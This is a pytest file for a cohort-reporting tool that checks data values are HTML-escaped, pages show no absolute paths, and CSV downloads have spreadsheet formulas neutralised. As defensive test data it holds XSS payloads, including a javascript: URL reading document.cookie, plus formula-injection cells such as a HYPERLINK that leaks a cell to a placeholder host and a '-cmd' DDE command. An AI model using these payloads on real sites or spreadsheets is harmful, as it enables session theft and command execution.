"""Output safety (issue 17). Every value from the data is escaped before it reaches a page. No
page shows an absolute path. The printed re-run command works from the repository root. CSV
downloads contain no cell a spreadsheet would run as a formula.

The hostile strings are the ones a real cohort can carry in a folder name, a cohort label or a
free-text cell. The browser check that nothing runs is in tests/test_injection_browser.py.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shlex
import shutil
import warnings
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from helpers import chapters
from helpers.chapters import context
from helpers.escape import (
    escape_html,
    escape_labels,
    neutralise_cell,
    neutralise_csv_bytes,
    neutralise_csv_text,
    neutralise_formulas,
)
from helpers.paths import REPO_ROOT
from helpers.plots import figures, tables

EXAMPLE = REPO_ROOT / "data" / "examples" / "single-centre"  # a contract-valid study, shipped
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute breakout": '"><img src=x onerror=alert(1)>',
    "single-quote breakout": "'><img src=x onerror=alert(1)>",
    "javascript url": "javascript:alert(document.cookie)",
    "quotes and ampersand": "O'Brien & \"the\" <cohort>",
}
# Folder names cannot hold "/": these are the hostile names a study or data folder can have.
DATA_FOLDER = "<svg onload=alert(2)>"
STUDY_FOLDER = "x<img src=x onerror=alert(1)>"
# The tags our renderers write themselves; anything else in their markup came from data.
OUR_TAGS = {"div", "p", "strong", "em", "table", "thead", "tbody", "tr", "th", "td", "code", "pre",
            "ul", "li", "br", "span", "a"}


class _Markup(HTMLParser):
    """The tags, attributes and text of a fragment, as a browser's tokenizer sees them."""

    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)

    def problems(self) -> list[str]:
        found = [f"tag <{t}> not written by the renderer" for t, _ in self.tags if t not in OUR_TAGS]
        found += [f"event handler {name}= on <{t}>" for t, attrs in self.tags for name, _ in attrs
                  if name.startswith("on")]
        found += [f"href {value!r} on <{t}>" for t, attrs in self.tags for name, value in attrs
                  if name == "href" and value and not value.startswith("../_static/")]
        return found


def assert_inert_and_shown(markup: str, *texts: str) -> None:
    """``markup`` holds only the renderer's own tags, and each of ``texts`` is shown as written."""
    parsed = _Markup(markup)
    assert parsed.problems() == [], parsed.problems()
    shown = "".join(parsed.text)
    for text in texts:
        assert text in shown, f"{text!r} is not shown as written"


# ------------------------------------------------------------- the escaping function --

@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_escaped_text_has_no_markup_and_reads_back_as_written(text):
    escaped = escape_html(text)
    assert not set(escaped) & set("<>\"'"), escaped
    assert html.unescape(escaped) == text


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_escaped_text_stays_inside_a_quoted_attribute(text):
    for quote in ("'", '"'):
        parsed = _Markup(f"<p title={quote}{escape_html(text)}{quote}>x</p>")
        assert parsed.tags == [("p", [("title", text)])]


def test_escaped_text_uses_only_entities_plotly_decodes():
    """Plotly.js decodes &amp; &lt; &gt; and numeric entities, but not &quot;. A quote in a
    cohort label must show as a quote in a figure, not as "&quot;"."""
    entities = set(re.findall(r"&[^;\s]*;", "".join(escape_html(t) for t in HOSTILE.values())))
    assert entities and all(re.fullmatch(r"&(?:amp|lt|gt|#\d+|#x[0-9a-fA-F]+);", e) for e in entities), entities


def test_labels_are_escaped_and_numbers_left_numbers():
    assert escape_labels(["<b>", 3, 2.5, None]) == ["&lt;b&gt;", 3, 2.5, None]


# -------------------------------------------------------------- chapter text blocks --

@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_computed_sentences_notes_and_patient_flows_are_inert(text):
    flow = context.PatientFlow(f"Patients {text}", 10, title=text).exclude({text: 2}, f"Left {text}")
    for markup in (context.say(text).markup, context.ChapterContext.notice(None, text, title=text).markup,
                   context.no_data_note(text, [text]).markup, flow._repr_html_()):
        assert_inert_and_shown(markup, text)


# ------------------------------------------------------------------------- banner --

@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory) -> Path:
    """A data folder named ``<svg onload=...>`` holding a study folder named ``x<img onerror=...>``."""
    data = tmp_path_factory.mktemp("cohorts") / DATA_FOLDER
    shutil.copytree(EXAMPLE, data / STUDY_FOLDER)
    return data


def setup_quietly(*args, **kwargs):
    with warnings.catch_warnings():  # the example's plausibility warnings are not what is tested
        warnings.simplefilter("ignore")
        return chapters.setup(*args, **kwargs)


@pytest.fixture(scope="module")
def hostile_banner(hostile_data) -> str:
    return setup_quietly("baselines", hostile_data).banner().markup


def test_banner_escapes_hostile_data_and_study_folder_names(hostile_banner):
    assert "<img" not in hostile_banner and "<svg" not in hostile_banner
    assert_inert_and_shown(hostile_banner, STUDY_FOLDER, DATA_FOLDER)


def test_banner_of_data_outside_the_repository_shows_no_path(hostile_banner, hostile_data):
    shown = html.unescape(hostile_banner)
    for path in (str(hostile_data), str(hostile_data.parent), "/tmp/", str(REPO_ROOT)):
        assert path not in shown, path
    assert f"-r data_dir 'PATH/TO/{DATA_FOLDER}'" in shown  # the folder by its own name only


def test_banner_of_data_inside_the_repository_shows_paths_from_its_root():
    """A user who passes an absolute path to a folder in the repository sees it relative to the root
    (``data/examples/single-centre``), and so does the default register."""
    banner = html.unescape(setup_quietly("baselines", EXAMPLE.resolve()).banner().markup)
    assert str(REPO_ROOT) not in banner
    assert "<code>data/examples/single-centre</code>" in banner
    assert "<code>data/published_register.csv</code>" in banner


def printed_rerun_command(banner: str) -> str:
    found = re.findall(r"<pre class='rerun-command'>(.*?)</pre>", banner, re.S)
    assert len(found) == 1, banner
    return html.unescape(found[0]).strip()


def test_printed_rerun_command_runs_from_the_repository_root(monkeypatch):
    """Issue 16: the command printed in a banner, given to papermill's own command line from the
    repository root, finds the notebook, runs it where data_dir means the data folder, and writes
    where a folder exists. papermill is stopped before it starts a kernel."""
    import papermill.cli
    from click.testing import CliRunner

    monkeypatch.chdir(REPO_ROOT / "notebooks")  # where the build runs every chapter
    banner = setup_quietly("baselines", "../data/examples/single-centre").banner().markup
    command = printed_rerun_command(banner)
    steps = [shlex.split(part) for part in command.split("&&")]
    if len(steps) == 2:  # a "mkdir -p <folder> &&" first, for the output
        assert steps[0][:2] == ["mkdir", "-p"], steps[0]
        made = {REPO_ROOT / folder for folder in steps[0][2:]}
    else:
        made = set()
    papermill_argv = steps[-1]
    assert papermill_argv[0] in (".venv/bin/papermill", "papermill"), papermill_argv
    calls = []
    monkeypatch.setattr(papermill.cli, "execute_notebook", lambda **kwargs: calls.append(kwargs))
    monkeypatch.chdir(REPO_ROOT)
    result = CliRunner().invoke(papermill.cli.papermill, papermill_argv[1:], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    (call,) = calls
    assert (REPO_ROOT / call["input_path"]).is_file()
    output_folder = (REPO_ROOT / call["output_path"]).parent
    assert output_folder in made or output_folder.is_dir(), f"no folder {output_folder} to write into"
    kernel_folder = REPO_ROOT / (call["cwd"] or ".")
    data_dir = (kernel_folder / str(call["parameters"]["data_dir"])).resolve()
    assert data_dir == EXAMPLE.resolve(), f"data_dir {call['parameters']['data_dir']} read from {kernel_folder}"
    assert list(chapters.cohort_folders(data_dir)) == ["single-centre"]
    assert call["parameters"]["seed"] == 20240101
    for value in papermill_argv:  # nothing of this machine's folders
        assert not Path(value).is_absolute(), value


# ------------------------------------------------------------------------- tables --

def test_table_cells_headers_caption_and_note_are_inert():
    texts = list(HOSTILE.values())
    frame = pd.DataFrame({texts[0]: texts[1:3], texts[3]: [texts[4], 1]}, index=pd.Index(texts[:2], name=texts[2]))
    markup = tables.show_table(frame, caption=texts[4], note=texts[0], index=True)._repr_html_()
    assert_inert_and_shown(markup, *texts)


def test_a_hostile_caption_cannot_choose_the_download_link(tmp_path):
    try:
        tables.configure_downloads(tmp_path, "../_static/downloads/chapter/")
        markup = tables.show_table(pd.DataFrame({"a": [1]}), caption=HOSTILE["javascript url"])._repr_html_()
    finally:
        tables.configure_downloads(None, None)
    hrefs = [v for t, attrs in _Markup(markup).tags for k, v in attrs if k == "href"]
    assert hrefs == ["../_static/downloads/chapter/javascript-alert-document-cookie.csv"]


# ----------------------------------------------------------------------- figures --

def test_figure_titles_labels_legends_and_annotations_are_escaped():
    label, category, title = HOSTILE["attribute breakout"], HOSTILE["quotes and ampersand"], HOSTILE["script"]
    counts = pd.DataFrame({"cohort": [label, "B"], "status": [category, category], "n": [3, 4]})
    bars = figures.label_synthetic(figures.composition_bars(counts, group="cohort", category="status",
                                                           title=title), text=HOSTILE["javascript url"])
    rates = pd.DataFrame({"what": [label], "cohort": [category], "k": [1], "n": [2], "lower": [.1], "upper": [.9]})
    shares = figures.proportion_bars(rates, x="what", color="cohort", title=title)
    for figure in (bars, shares):
        assert figure.layout.title.text == escape_html(title)
        for trace in figure.data:
            assert trace.name == escape_html(category)
            assert escape_html(label) in (trace.y if trace.orientation == "h" else trace.x)
    assert escape_html(category) in bars.data[0].hovertemplate and category not in bars.data[0].hovertemplate
    assert bars.layout.annotations[0].text == escape_html(HOSTILE["javascript url"])
    markup = figures.show(bars)._repr_html_()
    assert "<img" not in markup and markup.count("<script") == markup.count("</script>") == 1


def test_every_renderer_escapes_through_the_one_function():
    """Escaping is done in one place (helpers.escape): a module that calls html.escape itself
    writes '"' as &quot;, which plotly shows literally, and drifts from the rule the tests check."""
    direct = [f"{path.relative_to(REPO_ROOT)}:{n}" for path in sorted((REPO_ROOT / "src" / "helpers").rglob("*.py"))
              if path.name != "escape.py"
              for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
              if re.search(r"\bhtml(?:_lib)?\.escape\(|\bdef \w*escape\w*\(", line)]
    assert direct == []


# -------------------------------------------------------------------- CSV downloads --

FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "+1+2", "-cmd|' /C calc'!A0", "@SUM(A1)",
            "\t=1", "\r=1", "-", "-inf", "-0.6 (-9.5 to +25.3)"]
NUMBERS = ["-0.25", "-1e-3", "+3", "-12", "+.5", "1e10", "42"]
PLAIN = ["ALL", "a=b", "'already quoted", "", "e-mail", " =1 (leading space: text in every spreadsheet)"]


@pytest.mark.parametrize("cell", FORMULAS, ids=repr)
def test_formula_leading_text_gets_a_quote(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", NUMBERS + PLAIN, ids=repr)
def test_numbers_and_plain_text_are_left_as_they_are(cell):
    assert neutralise_cell(cell) == cell


def test_table_download_has_no_live_formula_and_keeps_its_numbers(tmp_path):
    frame = pd.DataFrame({"=cmd()": FORMULAS[:6] + NUMBERS[:1], "value": [-0.25, -1e-3, 3, -12, 0.5, 1, -7.0],
                          "as text": NUMBERS, "free text": ["line one\rline two", "a\nb", "", "x", "", "", ""]})
    try:
        tables.configure_downloads(tmp_path, "../_static/downloads/chapter/")
        tables.show_table(frame, caption="Formulas")
    finally:
        tables.configure_downloads(None, None)
    with open(tmp_path / "formulas.csv", newline="", encoding="utf-8") as handle:
        origin_header, *origins = [row[:1] for row in csv.reader(handle)]
        handle.seek(0)
        header, *rows = [row[1:] for row in csv.reader(handle)]  # after the data_origin column (tables.py)
    assert origin_header == ["data_origin"] and {o[0] for o in origins} == {"not stated"}
    assert header == ["'=cmd()", "value", "as text", "free text"]
    assert len(rows) == 7, "a carriage return inside a cell split its row"
    assert [r[0] for r in rows] == ["'" + f for f in FORMULAS[:6]] + ["-0.25"]
    assert [float(r[1]) for r in rows] == [-0.25, -1e-3, 3, -12, 0.5, 1, -7.0]
    assert [r[2] for r in rows] == NUMBERS
    assert [r[3] for r in rows[:2]] == ["line one\rline two", "a\nb"]


def test_neutralised_frame_keeps_numeric_columns_and_multi_level_headers():
    frame = pd.DataFrame([[-1.5, float("-inf"), "-x"]],
                         columns=pd.MultiIndex.from_tuples([("=a", "b"), ("c", "+d"), ("e", "f")]))
    out = neutralise_formulas(frame)
    assert list(out.columns) == [("'=a", "b"), ("c", "'+d"), ("e", "f")]
    assert out.iloc[0, 0] == -1.5 and out.iloc[0, 1] == float("-inf") and out.iloc[0, 2] == "'-x"
    assert list(frame.columns)[0] == ("=a", "b") and frame.iloc[0, 2] == "-x"  # the shown table is untouched


def test_a_written_csv_is_neutralised_cell_by_cell_and_left_alone_when_clean():
    clean = 'study,note\n000,"a, b"\n001,-0.25\n'
    assert neutralise_csv_text(clean) is clean
    data = clean.encode()
    assert neutralise_csv_bytes(data) is data
    dirty = 'study,note\n000,"=HYPERLINK(""x"")"\n001,"two\nlines, -1"\n002,@cmd\n'
    assert list(csv.reader(io.StringIO(neutralise_csv_text(dirty), newline=""))) == [
        ["study", "note"], ["000", "'=HYPERLINK(\"x\")"], ["001", "two\nlines, -1"], ["002", "'@cmd"]]
    assert neutralise_csv_bytes(dirty.encode()).decode() == neutralise_csv_text(dirty)


def test_the_site_stages_every_download_neutralised(tmp_path, monkeypatch):
    """The reproduction ledger is written by the reproduction layer. The build copies it and every
    chapter's table CSVs into the site, and what it stages must hold no live formula. This runs the
    build's staging step on a scratch folder."""
    from helpers.site import build

    build_dir, site = tmp_path / "_build", tmp_path / "_build" / "site"
    for name, value in {"BUILD_DIR": build_dir, "SITE_SOURCE_DIR": site, "BOOK_DIR": tmp_path / "book",
                        "EXECUTED_DIR": build_dir / "executed"}.items():
        monkeypatch.setattr(build, name, value)
    (tmp_path / "book").mkdir()
    (build_dir / "executed").mkdir(parents=True)
    (build_dir / "executed" / "chapter.ipynb").write_text("{}")
    (build_dir / "downloads" / "chapter").mkdir(parents=True)
    (build_dir / "downloads" / "chapter" / "t.csv").write_text("note\n=1+1\n")
    (build_dir / "reproduction-ledger.csv").write_text("register_id,note\n000-a,@SUM(A1)\n000-b,-0.25\n")
    build.stage_site(["chapter"])
    downloads = site / "_static" / "downloads"
    stamp = json.loads((site / "_static" / "build-stamp.json").read_text())["line"]  # the provenance column
    assert (downloads / "chapter" / "t.csv").read_text() == f'note,built_from\n\'=1+1,"{stamp}"\n'
    assert (downloads / "reproduction-ledger.csv").read_text() == (
        f'register_id,note,built_from\n000-a,\'@SUM(A1),"{stamp}"\n000-b,-0.25,"{stamp}"\n')
